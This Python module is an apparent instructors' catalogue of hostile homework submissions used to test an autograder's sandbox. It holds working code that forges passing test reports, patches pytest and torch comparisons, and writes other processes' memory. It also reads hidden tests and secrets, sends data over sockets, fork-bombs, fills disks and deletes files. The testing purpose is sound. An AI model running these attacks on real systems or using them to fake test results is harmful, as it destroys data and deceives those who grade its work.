"""The catalogue of hostile submissions the grader is tried against, as data: each attack is
a kind and code that `plant` adds to the empty handout's problem1/dataset.py (at module level,
in AdditionDataset.__init__, as extra files, or one edit of the reference file).

Instructors only. Used by the kit's sealed attack suite (course/grading/kit/
test_grade_sealed.py) and by `make grade-limits` (course/tools/grade_limits.py); this module
only writes submissions, it runs none.
"""

import shutil
import textwrap
from pathlib import Path

from provided.common import REPO_ROOT

HIDDEN_LINE = "def test_every_item_by_hand"  # a line of course/grading/hidden/test_hidden_p1a.py
REFERENCE_LINE = "x = self.norm2(x + self.dropout(self.ffn(x)))"  # in problem1/model.py's regions
LISTENER_PORT = 47613  # a TCP listener on 127.0.0.1 that the network attack writes to
# finds the grading repository from inside a worker, as a student would
FIND_REPO = """
import importlib.metadata, json, pathlib
def _repo():
    try:
        url = json.loads(importlib.metadata.distribution("attention-homework")
                         .read_text("direct_url.json"))["url"]
        return pathlib.Path(url.removeprefix("file://"))
    except Exception:
        return pathlib.Path(%r)
"""

def with_repo(code: str) -> str:
    """code (indented as in ATTACKS) after FIND_REPO, both at the same level."""
    return FIND_REPO + textwrap.dedent(code)


# world-writable folders an attack leaves a file in; the last, nested one is made by the
# fixture, as another program on the machine might
NESTED_WORLD_WRITABLE = "/tmp/hw_world_writable"
LEFT_BEHIND_FOLDERS = ("/run/lock", "/var/lock", "/tmp", "/var/tmp", "/dev/shm",
                       NESTED_WORLD_WRITABLE)

ATTACKS = {
    # the judge's memory and its channel
    "forges_from_its_own_memory": ("init", """
        import gc, json, os
        for obj in gc.get_objects():  # whatever holds a token, a pipe or a reporter
            if isinstance(obj, dict) and ("token" in obj or "fd" in obj):
                obj["outcome"] = "passed"
        line = json.dumps({"event": "end", "outcome": "passed", "output": ""}) + "\\n"
        for fd in range(0, 64):
            try:
                os.write(fd, line.encode() * 10)
            except OSError:
                pass
        raise NotImplementedError
        """),
    "writes_the_judges_memory": ("init", """
        import glob, os
        for status in glob.glob("/proc/[0-9]*/status"):
            pid = status.split("/")[2]
            if int(pid) == os.getpid():
                continue
            try:
                with open(f"/proc/{pid}/mem", "r+b") as mem:
                    mem.seek(0x400000)
                    mem.write(b"passed" * 100)
            except OSError:
                pass
            try:
                os.kill(int(pid), 19)  # SIGSTOP whatever it can reach
            except OSError:
                pass
        raise NotImplementedError
        """),
    # lying objects
    "lying_tensor_subclass": ("init", """
        import torch
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if getattr(func, "__name__", "") in ("equal", "allclose", "__eq__", "eq",
                                                     "assert_close", "all", "item"):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})
        zeros = torch.zeros(4000, 7, dtype=torch.long).as_subclass(Liar)
        type(self).__len__ = lambda s: 4000
        type(self).__getitem__ = lambda s, i: (zeros[i], zeros[i, :5], zeros[i, :5])
        self.src = self.tgt_in = self.tgt_out = zeros
        return
        """),
    "objects_equal_to_everything": ("init", """
        class Yes:
            def __eq__(self, other): return True
            def __bool__(self): return True
            def __len__(self): return 4000
            def __getitem__(self, i): return self
            def __iter__(self): return iter([self] * 3)
            shape = (4000, 7)
        type(self).__len__ = lambda s: 4000
        type(self).__getitem__ = lambda s, i: (Yes(), Yes(), Yes())
        self.src = self.tgt_in = self.tgt_out = Yes()
        return
        """),
    # code at module level, which runs in each sandbox that imports the file
    "computed_constant_at_module_level": ("module", """
        _X = __import__("pathlib").Path("/tmp/hw_module_level_ran").write_text("ran")
        """),
    # secrets
    "reads_secrets_from_memory_and_disk": ("init", with_repo("""
        import gc, glob, sys
        text = ""
        for obj in gc.get_objects():
            if isinstance(obj, (str, bytes)) and (b"BEGIN SOLUTION" in obj
                    if isinstance(obj, bytes) else "BEGIN SOLUTION" in obj
                    or "test_hidden" in obj):
                text += str(obj)[:20000]
        for pattern in [str(_repo() / "problem1/*.py"), str(_repo() / "problem*/results/*.json"),
                        str(_repo() / "course/grading/**/*.py"), "/autograder/source/**/*.py",
                        "/proc/*/cwd/**/test_hidden_*.py", "/proc/*/cwd/problem1/model.py",
                        "/proc/*/root/tmp/**/*.py", "/tmp/**/test_hidden_*.py",
                        "/tmp/**/problem1/model.py"]:
            for path in glob.glob(pattern, recursive=True):
                try:
                    text += open(path).read()
                except OSError:
                    pass
        for module in list(sys.modules.values()):
            text += str(getattr(module, "__file__", ""))
        raise RuntimeError("LEAK " + text)
        """)),
    "uses_the_network": ("init", f"""
        import socket
        for address in [("127.0.0.1", {LISTENER_PORT}), ("8.8.8.8", 53)]:
            try:
                with socket.create_connection(address, timeout=2) as s:
                    s.sendall(b"LEAKED")
            except OSError:
                pass
        raise NotImplementedError
        """),
    "leaves_ipc_and_lock_files": ("init", f"""
        import ctypes, os
        libc = ctypes.CDLL(None)
        libc.shmget(0x5EED, 4096, 0o1666)  # IPC_CREAT | 0666
        for folder in {LEFT_BEHIND_FOLDERS!r}:
            try:
                open(os.path.join(folder, "hw_left_behind"), "w").write("x")
            except OSError:
                pass
        raise NotImplementedError
        """),
    "gives_its_segment_to_root": ("init", """
        import ctypes
        libc = ctypes.CDLL(None)
        segment = libc.shmget(0x5EEC, 4096, 0o1666)  # IPC_CREAT | 0666
        ds = ctypes.create_string_buffer(512)
        if libc.shmctl(segment, 2, ds) == 0:  # IPC_STAT
            ds[4:8] = (0).to_bytes(4, "little")  # struct ipc_perm's uid: root
            libc.shmctl(segment, 1, ds)  # IPC_SET: the cleanup would no longer see it as ours
        raise NotImplementedError
        """),
    "fills_the_disk": ("init", """
        import os
        block = b"x" * 2**20
        for index in range(200):  # 6.4 GB in 32 MiB files, each under the file-size limit
            with open(f"hw_fill{index}", "wb") as out:
                for _ in range(32):
                    out.write(block)
        raise NotImplementedError
        """),
    "holds_files_without_names": ("init", """
        import os
        block, kept = b"x" * 2**20, []
        for index in range(6):  # 360 MiB no folder shows: unlinked, kept open; memfds
            fd = (os.memfd_create("held") if index % 2 else
                  os.open(f"hw_held{index}", os.O_RDWR | os.O_CREAT, 0o600))
            for _ in range(60):
                os.write(fd, block)
            if not index % 2:
                os.unlink(f"hw_held{index}")
            kept.append(fd)
        raise NotImplementedError
        """),
    "holds_system_v_segments": ("init", """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.shmat.restype = ctypes.c_void_p
        for _ in range(8):  # 480 MiB touched and detached: no address space holds it
            ident = libc.shmget(0, 60 * 2**20, 0o1600)
            if ident >= 0:
                address = libc.shmat(ident, None, 0)
                ctypes.memset(address, 1, 60 * 2**20)
                libc.shmdt(ctypes.c_void_p(address))
        raise NotImplementedError
        """),
    "fills_dev_shm_deep": ("init", """
        import os
        folder = f"/dev/shm/hw-deep-{os.getpid()}/a/b"
        os.makedirs(folder)
        for index in range(12_000):
            open(f"{folder}/{index}", "w").close()
        raise NotImplementedError
        """),
    "replies_too_large": ("reference", (
        "        return self.src[index], self.tgt_in[index], self.tgt_out[index]\n",
        "        return (self.src[index], self.tgt_in[index],\n"
        "                torch.zeros(4_000_000, 1, 1, dtype=torch.uint8))\n")),
    "keeps_forking": ("init", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            while True:  # a new pid every step: the cleanup cannot chase it by pid
                if os.fork():
                    os._exit(0)
                time.sleep(0.01)
        raise NotImplementedError
        """),
    # the outcome channel
    "atexit_rewrites_outputs": ("init", """
        import atexit, glob, json, os
        def _forge():
            fake = {"score": 999, "tests": []}
            for path in [os.environ.get("GRADE_REPORT", ""), "/autograder/results/results.json",
                         *glob.glob("/tmp/**/*.json", recursive=True)]:
                try:
                    open(path, "w").write(json.dumps(fake))
                except Exception:
                    pass
        atexit.register(_forge)
        """),
    "forged_lines_on_every_fd": ("init", """
        import json, os
        for fd in range(3, 64):
            for node in ["tests/test_problem1_dataset.py::test_forward_items"]:
                line = json.dumps({"event": "end", "node": node, "outcome": "passed",
                                   "output": ""}) + "\\n"
                try:
                    os.write(fd, line.encode())
                except OSError:
                    pass
        raise NotImplementedError
        """),
    "own_conftest": ("files", {
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                       "def pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "problem1/conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                                "def pytest_runtest_makereport(item, call):\n"
                                "    outcome = yield\n"
                                "    outcome.get_result().outcome = 'passed'\n"}),
    "patches_pytest_reports": ("init", """
        import _pytest.reports, _pytest.runner
        _make = _pytest.reports.TestReport.from_item_and_call
        def _always_pass(item, call):
            report = _make(item, call)
            report.outcome = "passed"
            report.longrepr = None
            return report
        _pytest.reports.TestReport.from_item_and_call = staticmethod(_always_pass)
        _pytest.runner.TestReport = _pytest.reports.TestReport
        """),
    "patches_torch_in_a_test": ("init", """
        import torch
        torch.equal = lambda *a, **k: True
        torch.allclose = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        """),
    "os_exit_in_a_test": ("init", """
        import os
        os._exit(0)
        """),
    "keyboard_interrupt_in_a_test": ("init", """
        raise KeyboardInterrupt
        """),
    "kills_its_parent": ("init", """
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            pass
        raise NotImplementedError
        """),
    "forks_a_survivor": ("init", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(100):
                    time.sleep(0.1)
                    for fd in range(3, 64):
                        try:
                            os.write(fd, b'{"event": "end", "outcome": "passed"}\\n')
                        except OSError:
                            pass
                os._exit(0)
            os._exit(0)
        """),
    "fork_bomb": ("init", """
        import os
        for _ in range(10000):
            try:
                os.fork()
            except OSError:
                break
        raise NotImplementedError
        """),
    "eats_memory": ("init", """
        hog = []
        for _ in range(64):
            hog.append(bytearray(2**30))
        raise NotImplementedError
        """),
    # what the grader takes of a submission
    "code_at_module_level": ("module", """
        raise SystemExit("module-level code ran")
        """),
    "deletes_a_function_to_get_the_reference": ("reference", (
        "    def __len__(self) -> int:\n", "    def _gone(self) -> int:\n")),
    "endless_loop": ("init", """
        while True:
            pass
        """),
    # secrecy and the file system
    "reads_hidden_tests": ("init", with_repo("""
        import glob
        text = ""
        for pattern in [str(_repo() / "course/grading/hidden/test_hidden_p1a.py"),
                        "/autograder/source/grading/hidden/test_hidden_p1a.py",
                        "/proc/*/cwd/grading/hidden/test_hidden_p1a.py",
                        "/tmp/**/test_hidden_p1a.py"]:
            for path in glob.glob(pattern, recursive=True):
                try:
                    text += open(path).read()
                except OSError:
                    pass
        raise RuntimeError("LEAK " + text)
        """)),
    "reads_proc": ("init", """
        import glob
        found = ""
        for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
            try:
                found += open(path, "rb").read().decode(errors="replace")
            except OSError:
                pass
        for word in found.replace("\\0", " ").split():
            if word.endswith(".json"):
                try:
                    open(word, "w").write('{"score": 999}')
                except OSError:
                    pass
        raise NotImplementedError
        """),
    "widens_the_bands": ("init", with_repo("""
        for problem in ("problem1", "problem2", "problem3"):
            path = _repo() / problem / "results" / "reference_bands.json"
            try:
                bands = json.loads(path.read_text())
                for run in bands.values():
                    for band in run.values():
                        band["min"], band["max"] = -1e9, 1e9
                path.write_text(json.dumps(bands))
            except Exception:
                pass
        try:
            (_repo() / "ATTACKED").write_text("x")
        except Exception:
            pass
        """)),
    "deletes_everything_it_can": ("init", with_repo("""
        import shutil
        for target in [pathlib.Path.cwd(), _repo() / "course" / "grading" / "hidden",
                       pathlib.Path.cwd().parent]:
            shutil.rmtree(target, ignore_errors=True)
        """)),
    "leaves_a_trap_for_the_next": ("init", """
        import os
        for folder in ("/tmp", "/var/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, "conftest.py"), "w") as f:
                    f.write("raise SystemExit('trapped')\\n")
            except OSError:
                pass
        """),
}


def plant(handout: Path, out: Path, kind: str, code) -> None:
    """The empty handout with code added to problem1/dataset.py: at module level, or in
    AdditionDataset.__init__ (then followed by the handout's NotImplementedError); or with
    extra files; or ("reference") the reference dataset.py with one edit (old, new)."""
    shutil.copytree(handout, out)
    dataset = out / "problem1" / "dataset.py"
    source = dataset.read_text()
    if kind == "files":
        for name, text in code.items():
            (out / name).write_text(text)
        return
    if kind == "reference":
        old, new = code
        dataset.write_text((REPO_ROOT / "problem1" / "dataset.py").read_text().replace(old, new))
        return
    code = textwrap.dedent(code % str(REPO_ROOT) if "%r" in code else code)
    if kind == "module":
        source += "\n" + code
    else:
        body = textwrap.indent(code.strip("\n") + "\nraise NotImplementedError", " " * 8)
        source = source.replace('        raise NotImplementedError("your solution here")',
                                body, 1)
    dataset.write_text(source)
